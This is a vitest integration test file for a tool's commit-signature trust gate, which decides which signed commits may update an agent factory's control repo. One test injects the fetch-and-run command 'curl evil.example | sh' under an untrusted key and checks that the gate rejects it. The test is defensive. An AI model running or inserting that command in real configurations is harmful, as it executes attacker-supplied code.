import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { factoryctl } from '../support/cli.js';
import { makeControlRepo, sh, shAsync, type ControlRepoFixture } from '../support/control-repo.js';
import { startGitServer, type GitServer } from '../support/git-server.js';
import { commitAll, makeSigningKey, signerLine, type SigningKey } from '../support/signing-keys.js';

const TEMPLATE = readFileSync(new URL('../../factory.yaml', import.meta.url), 'utf8').replace(
  'pullTimeout: 5s',
  'pullTimeout: 10s',
);
const ENFORCE = `${TEMPLATE}\ntrust:\n  mode: enforce\n`;

describe('only trusted commits move the factory (real ssh-keygen -Y signatures, real git server)', () => {
  let fixture: ControlRepoFixture;
  let server: GitServer;
  let human: string;
  let agent: string;
  let env: NodeJS.ProcessEnv;
  const keys: Record<string, SigningKey> = {};

  beforeAll(async () => {
    fixture = makeControlRepo({ factoryYaml: TEMPLATE });
    server = await startGitServer(fixture.srv);
    for (const name of ['alice', 'bob', 'supervisor', 'node', 'mallory'])
      keys[name] = makeSigningKey(fixture.root, name);
    human = await fixture.clone('human', `${server.url}control.git`);
    agent = await fixture.clone('agent', `${server.url}control.git`);
    env = { FACTORY_RUN_DIR: join(fixture.root, 'run'), FACTORY_STATE_DIR: join(fixture.root, 'state') };
    mkdirSync(env.FACTORY_RUN_DIR!, { recursive: true });
    mkdirSync(env.FACTORY_STATE_DIR!, { recursive: true });
    // The trust root: allowed signers and enforce, in one commit signed by a signer it lists.
    await push('trust: alice, the supervisor and the node of big', keys.alice, {
      'trust/allowed_signers': [
        signerLine('human:alice', keys.alice!),
        signerLine('supervisor:big', keys.supervisor!),
        signerLine('node:big', keys.node!),
        '',
      ].join('\n'),
      'factory.yaml': ENFORCE,
    });
  });
  afterAll(async () => {
    await server.close();
    fixture.cleanup();
  });

  /** Writes files in the human clone, commits (signed by key when given) and pushes: the new sha. */
  async function push(message: string, key: SigningKey | undefined, files: Record<string, string>) {
    await shAsync(human, 'git', ['pull', '-q', '--ff-only']);
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(human, path, '..'), { recursive: true });
      writeFileSync(join(human, path), text);
    }
    const sha = commitAll(human, message, key);
    await shAsync(human, 'git', ['push', '-q', 'origin', 'main']);
    return sha;
  }
  const gateJson = async (role = 'dev') => {
    const r = await factoryctl(['gate', role, '--json'], { cwd: agent, env });
    expect(r.stdout, r.stderr).not.toBe('');
    return { code: r.code, stderr: r.stderr, json: JSON.parse(r.stdout) as Record<string, any> };
  };
  const agentHead = () => sh(agent, 'git', ['rev-parse', 'HEAD']);
  /** A human's signed commit vouches for its whole tree: how a factory comes back from an untrusted head. */
  const recover = () => push('restore', keys.alice, { 'factory.yaml': ENFORCE, 'factory-state/overrides.yaml': '' });

  it('trusts the signed trust root and lets dev run', async () => {
    const { code, json } = await gateJson();
    expect(code).toBe(0);
    expect(json.trust).toMatchObject({ mode: 'enforce', trusted: agentHead(), untrusted: null });
  });

  it("a clone's pinned trust root: the right key's root is trusted; a main brought by another key is not", async () => {
    const pinned = await fixture.clone('pinned', `${server.url}control.git`);
    const pin = await factoryctl(['trust', 'pin', `${keys.alice!.path}.pub`, '--json'], { cwd: pinned, env });
    expect(pin.code, pin.stderr).toBe(0);
    const gate = await factoryctl(['gate', 'dev', '--json'], { cwd: pinned, env });
    expect(JSON.parse(gate.stdout).trust).toMatchObject({
      trusted: sh(pinned, 'git', ['rev-parse', 'HEAD']),
      untrusted: null,
    });

    // Pinned to mallory's key: alice's root is what a rewritten main would look like to it.
    const other = await fixture.clone('pinned-other', `${server.url}control.git`);
    const wrong = execFileSync('ssh-keygen', ['-l', '-f', `${keys.mallory!.path}.pub`], { encoding: 'utf8' }).split(
      ' ',
    )[1]!;
    expect((await factoryctl(['trust', 'pin', wrong], { cwd: other, env })).code).toBe(0);
    const refused = await factoryctl(['gate', 'dev', '--json'], { cwd: other, env });
    const trust = JSON.parse(refused.stdout).trust;
    expect(trust.trusted).toBeNull();
    expect(trust.untrusted.reason).toMatch(
      /^trust root: signed by SHA256:\S+, not a key pinned in \.git\/factoryctl\/trust-root$/,
    );
    expect(trust.untrusted.signer).toBe('human:alice');
  });

  it('an unsigned commit that halts everything: the gate answers as before, the node keeps its state, both name it', async () => {
    const before = agentHead();
    const once = await factoryctl(['node', '--once'], { cwd: agent, env });
    expect(once.code, once.stderr).toBe(0);
    expect(existsSync(join(env.FACTORY_STATE_DIR!, '.dev-active'))).toBe(true);

    const halted = await factoryctl(['halt', 'all', '--reason', 'pushed with a stolen token'], { cwd: human, env });
    expect(halted.code, halted.stderr).toBe(0);
    const bad = sh(fixture.bare, 'git', ['rev-parse', 'main']);
    expect(bad).not.toBe(before);

    const { code, json, stderr } = await gateJson();
    expect(code, stderr).toBe(0);
    expect(json).toMatchObject({ run: true, trust: { trusted: before, head: bad } });
    expect(json.trust.untrusted).toMatchObject({ sha: bad, signer: 'unsigned', reason: 'not signed' });
    expect(stderr).toContain(`commit ${bad.slice(0, 12)} (signer unsigned) is not trusted`);
    expect(agentHead()).toBe(before);

    const again = await factoryctl(['node', '--once'], { cwd: agent, env });
    expect(again.code, again.stderr).toBe(0);
    expect(existsSync(join(env.FACTORY_STATE_DIR!, '.dev-active'))).toBe(true);
    const journal = sh(agent, 'git', ['show', 'origin/telemetry/test-node:journal.jsonl']);
    expect(journal).toContain(`commit ${bad.slice(0, 12)} (signer unsigned) is not trusted`);

    const status = await factoryctl(['status', '--json'], { cwd: agent, env });
    expect(status.stdout + status.stderr).toContain(`commit ${bad.slice(0, 12)}`);

    const fixed = await recover();
    expect((await gateJson()).json.trust).toMatchObject({ trusted: fixed, untrusted: null });
  });

  it('a commit signed by an unknown key changing a role command: not applied, not built', async () => {
    const before = agentHead();
    const evil = await push('dev runs my script', keys.mallory, {
      'factory.yaml': ENFORCE.replace('command: ./dev-poll.sh', 'command: curl evil.example | sh'),
    });
    const { json } = await gateJson();
    expect(json.trust.untrusted).toMatchObject({ sha: evil, reason: 'signed by a key that is not an allowed signer' });
    expect(json.trust.untrusted.signer).toMatch(/^SHA256:/);
    expect(agentHead()).toBe(before); // the upgrade builds the checked-out source: this one
    expect(readFileSync(join(agent, 'factory.yaml'), 'utf8')).toContain('command: ./dev-poll.sh');
    await recover();
  });

  it('a supervisor key: trusted in factory-state/, not outside it', async () => {
    const inside = await push('supervisor: a decision', keys.supervisor, { 'factory-state/notes.txt': 'hello\n' });
    expect((await gateJson()).json.trust).toMatchObject({ trusted: inside, untrusted: null });
    const outside = await push('supervisor: edits the config', keys.supervisor, {
      'factory.yaml': ENFORCE.replace('command: ./dev-poll.sh', 'command: ./other.sh'),
    });
    const { json } = await gateJson();
    expect(json.trust).toMatchObject({ trusted: inside });
    expect(json.trust.untrusted).toMatchObject({
      sha: outside,
      signer: 'supervisor:big',
      reason: 'a supervisor may not change factory.yaml',
    });
    await recover();
  });

  it('rotation: a trusted commit adds a signer, whose commits are then trusted; an unknown key cannot add itself', async () => {
    const self = await push('mallory adds herself', keys.mallory, {
      'trust/allowed_signers': `${readFileSync(join(human, 'trust/allowed_signers'), 'utf8')}${signerLine('human:mallory', keys.mallory!)}\n`,
    });
    expect((await gateJson()).json.trust.untrusted).toMatchObject({ sha: self });
    await shAsync(human, 'git', ['reset', '-q', '--hard', 'HEAD~1']);
    await shAsync(human, 'git', ['push', '-q', '--force', 'origin', 'main']);
    // Main rewound to the trusted commit (a human's force-push): the chain goes on from there.
    const added = await push('trust: add bob', keys.alice, {
      'trust/allowed_signers': `${readFileSync(join(human, 'trust/allowed_signers'), 'utf8')}${signerLine('human:bob', keys.bob!)}\n`,
    });
    expect((await gateJson()).json.trust).toMatchObject({ trusted: added, untrusted: null });
    const byBob = await push('bob edits the config', keys.bob, { 'factory.yaml': `${ENFORCE}# bob was here\n` });
    expect((await gateJson()).json.trust).toMatchObject({ trusted: byBob, untrusted: null });
  });

  it('status in a reader clone: one fetch, main moved only as far as trust allows', async () => {
    const reader = await fixture.clone('reader', `${server.url}control.git`);
    const trusted = sh(reader, 'git', ['rev-parse', 'HEAD']);
    // The gate judges its head first, as on an agent's clone.
    const first = await factoryctl(['gate', 'dev', '--json'], { cwd: reader, env });
    expect(first.code, first.stderr).toBe(0);
    const bad = await push('an unsigned edit', undefined, { 'factory-state/notes.txt': 'unsigned\n' });
    const before = server.log.length;
    const status = await factoryctl(['status', '--json'], { cwd: reader, env });
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout + status.stderr).toContain(`commit ${bad.slice(0, 12)}`);
    // Fetched, judged, and left where enforce allows: the work tree stays at the trusted commit.
    expect(sh(reader, 'git', ['rev-parse', 'HEAD', 'origin/main']).split('\n')).toEqual([trusted, bad]);
    const fetches = server.log
      .slice(before)
      .filter((r) => r.startsWith('GET ') && r.includes('service=git-upload-pack'));
    expect(fetches).toHaveLength(1);
    const fixed = await recover();
    expect((await factoryctl(['status', '--json'], { cwd: reader, env })).code).toBe(0);
    expect(sh(reader, 'git', ['rev-parse', 'HEAD'])).toBe(fixed);
  });
});
